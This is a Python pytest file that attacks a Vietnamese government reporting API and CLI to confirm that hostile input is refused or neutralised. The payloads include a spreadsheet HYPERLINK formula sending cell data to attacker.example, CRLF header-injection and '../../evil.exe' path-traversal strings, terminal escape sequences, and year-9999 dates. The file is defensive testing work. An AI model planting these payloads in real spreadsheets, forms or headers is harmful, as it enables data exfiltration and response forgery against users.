"""Issue 9, items 6, 7, 8 and the date part of 11, attacked through the API on SQLite and
PostgreSQL: formula titles in the XLSX annex, control characters in every free-text input
and in frozen snapshots, issuer codes that forge headers, deadlines in the year 9999."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import httpx
import pytest
import typer
from openpyxl import Workbook, load_workbook
from sqlalchemy import Engine, func, select
from sqlmodel import Session, SQLModel
from typer.testing import CliRunner

from api.downloads import content_disposition
from cli import app as cli_app
from cli.common import parse_date
from models import (
    AuditEvent,
    Document,
    Plan,
    PlanSection,
    ProgressUpdate,
    Role,
    Task,
    Unit,
    UnitKind,
    User,
)
from models.obligations import Obligation
from models.reports import Indicator, IndicatorValue, Report
from reports.render_docx import docx_text
from tests.api.conftest import SETUP, World, today_iso
from tracking import clock
from tracking import units as units_service

BAD_CHARACTERS = [
    pytest.param("\x0b", "text.control_character", id="vertical-tab"),
    pytest.param("\x00", "text.control_character", id="nul"),
    pytest.param("\x1b", "text.control_character", id="escape"),
    pytest.param("\ud800", "text.invalid_character", id="lone-surrogate"),
]
FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"Xem")', "+1", "-1+1", "@SUM(A1)"]
WATCHED: tuple[type[SQLModel], ...] = (
    AuditEvent,
    Task,
    ProgressUpdate,
    Plan,
    PlanSection,
    Document,
    Report,
    Unit,
    User,
    Obligation,
    Indicator,
    IndicatorValue,
)
ISSUE_TEXTS = {
    "shortcomings": "Còn chậm.",
    "recommendations": "Bổ sung kinh phí.",
    "orientation": "Tiếp tục triển khai.",
    "signature": {"name": "Nguyễn Văn Ký"},
}


def _counts(world: World) -> dict[str, int]:
    with world.session() as session:
        return {
            model.__name__: session.execute(select(func.count()).select_from(model)).scalar_one()
            for model in WATCHED
        }


def _send(
    world: World, method: str, url: str, body: Any, headers: dict[str, str]
) -> httpx.Response:
    """JSON with \\u escapes: a lone surrogate cannot be encoded as UTF-8, an attacker sends
    it escaped."""
    return world.client.request(
        method,
        url,
        content=json.dumps(body),
        headers={**headers, "Content-Type": "application/json"},
    )


def _ok(response: httpx.Response) -> Any:
    assert response.status_code in (200, 201), response.text
    return response.json()


@dataclass
class Reporting:
    """A plan of the issuer with overdue tasks led by `lead`, and the people who act."""

    world: World
    plan_id: int

    @property
    def issuer(self) -> dict[str, str]:
        return self.world.headers("issuer", Role.LEADER)

    @property
    def lead(self) -> dict[str, str]:
        return self.world.headers("lead", Role.LEADER)

    def new_task(self, title: str) -> dict[str, Any]:
        return _ok(
            _send(
                self.world,
                "POST",
                "/api/v1/tasks",
                {
                    "title": title,
                    "lead_unit_id": self.world.unit_id("lead"),
                    "plan_id": self.plan_id,
                    "assigned_on": today_iso(-20),
                    "deadline": {"kind": "date", "due_on": today_iso(-5)},
                },
                self.issuer,
            )
        )

    def draft(self, *, issuer_code: str = "SNV", texts: dict[str, Any] | None = None) -> Any:
        return _send(
            self.world,
            "POST",
            "/api/v1/reports",
            {
                "kind": "year",
                "period": str(clock.today().year),
                "unit_id": self.world.unit_id("lead"),
                "plan_id": self.plan_id,
                "as_of": today_iso(),
                "issuer_code": issuer_code,
                "texts": ISSUE_TEXTS if texts is None else texts,
            },
            self.lead,
        )

    def issued(self, *, issuer_code: str = "SNV") -> dict[str, Any]:
        report = _ok(self.draft(issuer_code=issuer_code))
        return _ok(
            _send(
                self.world,
                "POST",
                f"/api/v1/reports/{report['id']}/issue",
                {"version": report["version"]},
                self.lead,
            )
        )

    def download(self, report_id: int, file_format: str) -> httpx.Response:
        return self.world.client.get(
            f"/api/v1/reports/{report_id}/files/{file_format}", headers=self.lead
        )


@pytest.fixture
def reporting(world: World) -> Reporting:
    plan = _ok(
        _send(
            world,
            "POST",
            "/api/v1/plans",
            {
                "title": f"Kế hoạch kiểm thử bảo mật {world.next()}",
                "issuer_unit_id": world.unit_id("issuer"),
                "sections": ["Mục I"],
            },
            world.headers("issuer", Role.LEADER),
        )
    )
    return Reporting(world=world, plan_id=plan["id"])


# --- item 6: formula injection in the XLSX annex ---------------------------------------------


def test_formula_titles_stay_text_in_the_issued_annex(reporting: Reporting) -> None:
    for title in FORMULAS:
        assert reporting.new_task(title)["title"] == title
    report = reporting.issued()

    annex = reporting.download(report["id"], "xlsx")

    assert annex.status_code == 200
    workbook = load_workbook(io.BytesIO(annex.content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    overdue = {cell.value: cell for cell in workbook["Quá hạn"]["B"] if cell.value in FORMULAS}
    assert sorted(overdue) == sorted(FORMULAS)
    for title, cell in overdue.items():
        assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", title, True)


# --- item 7: control characters --------------------------------------------------------------


Attack = Callable[[Reporting, str], tuple[str, str, Any, dict[str, str], str]]


def _task_create(r: Reporting, bad: str) -> tuple[str, str, Any, dict[str, str], str]:
    body = {
        "title": f"Nhiệm vụ {bad}",
        "lead_unit_id": r.world.unit_id("lead"),
        "deadline": {"kind": "none"},
    }
    return "POST", "/api/v1/tasks", body, r.issuer, "title"


def _task_note(r: Reporting, bad: str) -> tuple[str, str, Any, dict[str, str], str]:
    task = r.new_task(f"Nhiệm vụ có ghi chú {r.world.next()}")
    body = {"version": task["version"], "note": f"Ghi chú{bad}"}
    return "PATCH", f"/api/v1/tasks/{task['id']}", body, r.issuer, "note"


def _progress(r: Reporting, bad: str) -> tuple[str, str, Any, dict[str, str], str]:
    task = r.new_task(f"Nhiệm vụ báo cáo tiến độ {r.world.next()}")
    body = {"version": task["version"], "content": f"Đã làm{bad}xong một nửa"}
    return "POST", f"/api/v1/tasks/{task['id']}/progress", body, r.lead, "content"


def _extension(r: Reporting, bad: str) -> tuple[str, str, Any, dict[str, str], str]:
    task = r.new_task(f"Nhiệm vụ xin gia hạn {r.world.next()}")
    body = {"version": task["version"], "proposed_due_on": today_iso(30), "reason": f"Lý do{bad}"}
    return "POST", f"/api/v1/tasks/{task['id']}/extensions", body, r.lead, "reason"


def _plan_section(r: Reporting, bad: str) -> tuple[str, str, Any, dict[str, str], str]:
    body = {"title": "Kế hoạch", "sections": ["Mục I", f"Mục{bad}II"]}
    return "POST", "/api/v1/plans", body, r.issuer, "sections.1"


def _document(r: Reporting, bad: str) -> tuple[str, str, Any, dict[str, str], str]:
    body = {
        "symbol": f"{r.world.next()}/KH-UBND",
        "issued_on": today_iso(),
        "summary": f"Trích yếu{bad}",
    }
    return "POST", "/api/v1/documents", body, r.issuer, "summary"


def _report_section(r: Reporting, bad: str) -> tuple[str, str, Any, dict[str, str], str]:
    report = _ok(r.draft())
    body = {"version": report["version"], "texts": {"shortcomings": f"Tồn tại{bad}"}}
    return "PATCH", f"/api/v1/reports/{report['id']}/texts", body, r.lead, "texts.shortcomings"


def _report_signature(r: Reporting, bad: str) -> tuple[str, str, Any, dict[str, str], str]:
    body = {
        "kind": "year",
        "period": str(clock.today().year),
        "unit_id": r.world.unit_id("lead"),
        "as_of": today_iso(),
        "issuer_code": "SNV",
        "texts": {"signature": {"name": f"Lê Văn{bad}Ninh"}},
    }
    return "POST", "/api/v1/reports", body, r.lead, "texts.signature.name"


def _unit(r: Reporting, bad: str) -> tuple[str, str, Any, dict[str, str], str]:
    body = {"name": f"Sở Nội vụ{bad}"}
    url = f"/api/v1/units/{r.world.unit_id('lead')}"
    return "PATCH", url, body, r.world.headers("root", Role.ADMIN), "name"


def _obligation(r: Reporting, bad: str) -> tuple[str, str, Any, dict[str, str], str]:
    body = {
        "title": "Báo cáo quý",
        "report_kind": "quarter",
        "lead_unit_id": r.world.unit_id("lead"),
        "recipient": f"Sở{bad}Nội vụ",
    }
    return "POST", "/api/v1/obligations", body, r.issuer, "recipient"


ATTACKS = [
    pytest.param(attack, id=attack.__name__.strip("_"))
    for attack in (
        _task_create,
        _task_note,
        _progress,
        _extension,
        _plan_section,
        _document,
        _report_section,
        _report_signature,
        _unit,
        _obligation,
    )
]


@pytest.mark.parametrize(("bad", "code"), BAD_CHARACTERS)
@pytest.mark.parametrize("attack", ATTACKS)
def test_a_control_character_in_free_text_is_refused_naming_the_field(
    reporting: Reporting, attack: Attack, bad: str, code: str
) -> None:
    method, url, body, headers, field = attack(reporting, bad)
    before = _counts(reporting.world)
    target = reporting.world.client.get(url, headers=headers) if method == "PATCH" else None

    response = _send(reporting.world, method, url, body, headers)

    assert response.status_code == 422, response.text
    [item] = response.json()["detail"]
    assert (item["code"], item["field"]) == (code, field)
    assert f"U+{ord(bad):04X}" in item["message"] and "ký tự" in item["message"]
    assert _counts(reporting.world) == before
    if target is not None and target.status_code == 200:
        assert reporting.world.client.get(url, headers=headers).json() == target.json()


def test_carriage_returns_are_stored_as_line_feeds(reporting: Reporting) -> None:
    task = reporting.new_task("Dòng một\r\nDòng hai\rDòng ba")

    assert task["title"] == "Dòng một\nDòng hai\nDòng ba"


def _import(world: World, plan_id: int, name: str, content: bytes) -> httpx.Response:
    return world.client.post(
        f"/api/v1/plans/{plan_id}/tasks/import",
        files={"file": (name, content, "application/octet-stream")},
        headers=world.headers("issuer", Role.OFFICER),
    )


def _plan_tasks(world: World, plan_id: int) -> int:
    with world.session() as session:
        statement = select(func.count()).select_from(Task).where(Task.plan_id == plan_id)
        return session.execute(statement).scalar_one()


IMPORT_HEADER = ["Nội dung nhiệm vụ", "Đơn vị chủ trì", "Thời hạn", "Ghi chú"]


def test_a_csv_import_lists_every_row_with_a_control_character_and_imports_nothing(
    reporting: Reporting,
) -> None:
    world = reporting.world
    rows = [
        IMPORT_HEADER,
        ["Nhiệm vụ hợp lệ", "LEAD", "31/12/2030", ""],
        ["Nhiệm vụ\x0bcó tab dọc", "LEAD", "", ""],  # row 3
        ["Nhiệm vụ có NUL", "LE\x00AD", "", ""],  # row 4
        ["Nhiệm vụ có ESC", "LEAD", "", "Ghi chú \x1b[31m đỏ"],  # row 5
        ["Nhiệm vụ đến năm 9999", "LEAD", "31/12/9999", ""],  # row 6
    ]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    before = _counts(world)

    response = _import(world, reporting.plan_id, "nhiem-vu.csv", buffer.getvalue().encode())

    assert response.status_code == 422, response.text
    found = {(e["row"], e["field"], e["code"]) for e in response.json()["detail"]}
    assert found == {
        (3, "nội dung nhiệm vụ", "text.control_character"),
        (4, "đơn vị chủ trì", "text.control_character"),
        (5, "ghi chú", "text.control_character"),
        (6, "thời hạn", "date.out_of_range"),
    }
    assert _counts(world) == before and _plan_tasks(world, reporting.plan_id) == 0


def test_an_xlsx_import_lists_every_row_with_a_control_character_and_imports_nothing(
    reporting: Reporting,
) -> None:
    """XML cannot carry C0 controls, but a workbook can carry DEL and the C1 controls (U+009B
    is a terminal's CSI); 9999-12-31 as a real date cell is refused like the typed one."""
    world = reporting.world
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(IMPORT_HEADER)
    sheet.append(["Nhiệm vụ hợp lệ", "LEAD", "", ""])
    sheet.append(["Nhiệm vụ \x9b31m", "LEAD", "", ""])  # row 3
    sheet.append(["Nhiệm vụ có DEL", "LEAD", "", "Ghi\x7fchú"])  # row 4
    sheet.append(["Nhiệm vụ đến năm 9999", "LEAD", clock.today().replace(year=9999), ""])  # 5
    buffer = io.BytesIO()
    workbook.save(buffer)
    before = _counts(world)

    response = _import(world, reporting.plan_id, "nhiem-vu.xlsx", buffer.getvalue())

    assert response.status_code == 422, response.text
    found = {(e["row"], e["field"], e["code"]) for e in response.json()["detail"]}
    assert found == {
        (3, "nội dung nhiệm vụ", "text.control_character"),
        (4, "ghi chú", "text.control_character"),
        (5, "thời hạn", "date.out_of_range"),
    }
    assert _counts(world) == before and _plan_tasks(world, reporting.plan_id) == 0


def test_an_indicator_import_with_a_control_character_or_year_9999_imports_nothing(
    reporting: Reporting,
) -> None:
    world = reporting.world
    url = f"/api/v1/plans/{reporting.plan_id}/indicators/import"
    indicators = "code,name,unit_of_measure\nCT1,Chỉ tiêu một,hồ sơ\nCT2,Chỉ tiêu\x0bhai,hồ sơ\n"
    before = _counts(world)

    rejected = world.client.post(
        url,
        headers=reporting.issuer,
        files={"file": ("chi-tieu.csv", indicators.encode(), "text/csv")},
    )

    assert rejected.status_code == 422, rejected.text
    assert [(e["row"], e["field"]) for e in rejected.json()["detail"]] == [(3, "name")]
    assert _counts(world) == before

    _ok(
        world.client.post(
            url,
            headers=reporting.issuer,
            files={"file": ("chi-tieu.csv", indicators.replace("\x0b", " ").encode(), "text/csv")},
        )
    )
    period = clock.today().year
    values = (
        "indicator_code,unit_code,period_kind,period_code,value,reported_on,note\n"
        f"CT1,LEAD,year,{period},5,{clock.today():%d/%m/%Y},\n"
        f"CT1,LEAD,year,{period},6,31/12/9999,\n"
        f"CT2,LEAD,year,{period},7,{clock.today():%d/%m/%Y},ghi\x1bchú\n"
    )
    before = _counts(world)

    refused = world.client.post(
        f"/api/v1/plans/{reporting.plan_id}/indicator-values/import",
        headers=reporting.issuer,
        files={"file": ("so-lieu.csv", values.encode(), "text/csv")},
    )

    assert refused.status_code == 422, refused.text
    assert [(e["row"], e["field"]) for e in refused.json()["detail"]] == [
        (3, "reported_on"),
        (4, "note"),
    ]
    assert _counts(world) == before


def test_an_issued_snapshot_holding_control_characters_still_downloads(
    reporting: Reporting,
) -> None:
    """Rows stored before the rule end up in a frozen snapshot: every format still answers."""
    reporting.new_task("Nhiệm vụ cũ")
    report = reporting.issued()
    sqlite = reporting.world.engine.dialect.name == "sqlite"
    poison = "\x0b\x1b" + ("\ud800" if sqlite else "")  # jsonb refuses a lone surrogate
    with reporting.world.session() as session:
        row = session.get(Report, report["id"])
        assert row is not None and row.snapshot is not None
        # Every place the title appears (figures, body sentences), and the trích yếu.
        stored = json.dumps(row.snapshot).replace(
            "c\\u0169", "c" + json.dumps(poison)[1:-1] + "\\u0169"
        )
        snapshot = json.loads(stored)
        snapshot["header"]["summary"] += poison
        assert stored.count("\\u000b") >= 2
        row.snapshot = snapshot
        session.add(row)
        session.commit()

    for file_format in ("docx", "xlsx", "md"):
        response = reporting.download(report["id"], file_format)
        assert response.status_code == 200, (file_format, response.text)
        assert response.content
    document = docx_text(reporting.download(report["id"], "docx").content)
    markdown = reporting.download(report["id"], "md").text
    assert "\x0b" not in document and "\x1b" not in markdown
    annex = load_workbook(io.BytesIO(reporting.download(report["id"], "xlsx").content))
    assert "Nhiệm vụ cũ" in {c.value for c in annex["Quá hạn"]["B"]}


# --- item 8: issuer codes and file names -----------------------------------------------------


@pytest.mark.parametrize(
    "issuer_code",
    [
        "UB\r\nND",
        "UBND\n",
        'UBND"',
        "UB'ND",
        "UBND;x=1",
        "UB ND",
        " UBND",
        "BC/UBND",
        "U" * 41,
        "UBND\x0b",
    ],
    ids=[
        "crlf",
        "trailing-lf",
        "double-quote",
        "quote",
        "semicolon",
        "space",
        "leading-space",
        "slash",
        "too-long",
        "vertical-tab",
    ],
)
def test_an_issuer_code_outside_the_pattern_is_refused(
    reporting: Reporting, issuer_code: str
) -> None:
    before = _counts(reporting.world)

    drafted = reporting.draft(issuer_code=issuer_code)
    obligation = _send(
        reporting.world,
        "POST",
        "/api/v1/obligations",
        {
            "title": f"Báo cáo quý {reporting.world.next()}",
            "report_kind": "quarter",
            "lead_unit_id": reporting.world.unit_id("lead"),
            "report_issuer_code": issuer_code,
        },
        reporting.issuer,
    )

    for response, field in ((drafted, "issuer_code"), (obligation, "report_issuer_code")):
        assert response.status_code == 422, response.text
        [item] = response.json()["detail"]
        assert (item["code"], item["field"]) == ("document.issuer_code_invalid", field)
    assert _counts(reporting.world) == before


def test_a_vietnamese_issuer_code_downloads_with_a_safe_name_and_a_correct_filename_star(
    reporting: Reporting,
) -> None:
    report = reporting.issued(issuer_code="HĐND")
    number = report["symbol"].split("/")[0]

    response = reporting.download(report["id"], "docx")

    assert response.status_code == 200
    disposition = response.headers["content-disposition"]
    assert disposition == (
        f'attachment; filename="bao-cao-{number}-BC-HDND.docx"; '
        f"filename*=UTF-8''bao-cao-{number}-BC-H%C4%90ND.docx"
    )
    star = re.search(r"filename\*=UTF-8''(\S+)$", disposition)
    assert star is not None and unquote(star[1]) == f"bao-cao-{number}-BC-HĐND.docx"


def test_a_stored_symbol_with_header_characters_cannot_forge_the_download_name(
    reporting: Reporting,
) -> None:
    """A row written before the rule: the name is still built from the whitelist."""
    report = reporting.issued()
    with reporting.world.session() as session:
        row = session.get(Report, report["id"])
        assert row is not None
        row.symbol = '01/BC-X"\r\nSet-Cookie: a=b;filename=../../evil.exe'
        session.add(row)
        session.commit()

    response = reporting.download(report["id"], "md")

    assert response.status_code == 200
    disposition = response.headers["content-disposition"]
    assert "set-cookie" not in {key.lower() for key in response.headers}
    ascii_name = re.fullmatch(
        r'attachment; filename="([A-Za-z0-9._-]+)"; filename\*=\S+', disposition
    )
    assert ascii_name is not None and "/" not in unquote(disposition)
    assert ascii_name[1] == "bao-cao-01-BC-X-Set-Cookie-a-b-filename-..-..-evil.exe.md"


def test_every_download_name_is_folded_to_ascii_and_carried_whole_in_filename_star() -> None:
    """The one helper every download uses, on a Vietnamese title with header characters."""
    disposition = content_disposition('Báo cáo "tình hình" Đà Nẵng;\r\n.docx')

    assert disposition == (
        'attachment; filename="Bao-cao-tinh-hinh-Da-Nang-.docx"; '
        "filename*=UTF-8''B%C3%A1o-c%C3%A1o-t%C3%ACnh-h%C3%ACnh-%C4%90%C3%A0-N%E1%BA%B5ng-.docx"
    )
    assert unquote(disposition.split("''")[1]) == "Báo-cáo-tình-hình-Đà-Nẵng-.docx"
    assert disposition.isascii()


# --- item 11 (part): one date range ----------------------------------------------------------


def test_the_command_line_refuses_dates_outside_the_api_range() -> None:
    with pytest.raises(typer.BadParameter, match="01/01/1990 – 31/12/2099"):
        parse_date("31/12/9999")
    assert parse_date("31/12/2099") == clock.today().replace(year=2099, month=12, day=31)


def test_a_task_due_in_year_9999_is_refused_by_the_api(reporting: Reporting) -> None:
    before = _counts(reporting.world)

    response = _send(
        reporting.world,
        "POST",
        "/api/v1/tasks",
        {
            "title": "Nhiệm vụ xa",
            "lead_unit_id": reporting.world.unit_id("lead"),
            "deadline": {"kind": "date", "due_on": "9999-12-31"},
        },
        reporting.issuer,
    )

    assert response.status_code == 422
    assert response.json()["detail"][0]["field"] == "deadline.date.due_on"
    assert _counts(reporting.world) == before


# --- the command line goes through the same rules -------------------------------------------


def _cli_unit(engine: Engine) -> str:
    with Session(engine) as session:
        units_service.create(
            session=session, actor=SETUP, code="SNV", name="Sở Nội vụ", kind=UnitKind.DEPARTMENT
        )
        session.commit()
    return "SNV"


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        pytest.param(["--issuer-code", "UB ND"], "document.issuer_code_invalid", id="space"),
        pytest.param(["--issuer-code", "UBND\r\nX"], "document.issuer_code_invalid", id="crlf"),
        pytest.param(["--issuer-code", 'UBND"'], "document.issuer_code_invalid", id="quote"),
        pytest.param(["--texts", "{texts}"], "text.control_character", id="texts-file"),
        pytest.param(["--as-of", "31/12/9999"], "31/12/2099", id="year-9999"),
    ],
)
def test_report_make_on_the_command_line_refuses_what_the_api_refuses(
    engine: Engine, tmp_path: Path, extra: list[str], message: str
) -> None:
    unit = _cli_unit(engine)
    texts = tmp_path / "noi-dung.json"
    texts.write_text(json.dumps({"shortcomings": "Còn\x0bchậm"}), encoding="utf-8")
    today = f"{clock.today():%d/%m/%Y}"
    arguments = [
        "report",
        "make",
        "--kind",
        "year",
        "--period",
        str(clock.today().year),
        "--unit",
        unit,
        "--as-of",
        today,
        "--out",
        str(tmp_path / "out"),
    ]
    arguments += [part.replace("{texts}", str(texts)) for part in extra]
    if "--issuer-code" not in extra:
        arguments += ["--issuer-code", "SNV"]

    result = CliRunner().invoke(cli_app, arguments)

    assert result.exit_code == 2, result.output
    assert message in result.stderr and "Traceback" not in result.output
    with Session(engine) as session:
        assert session.execute(select(func.count()).select_from(Report)).scalar_one() == 0
    assert not (tmp_path / "out").exists()
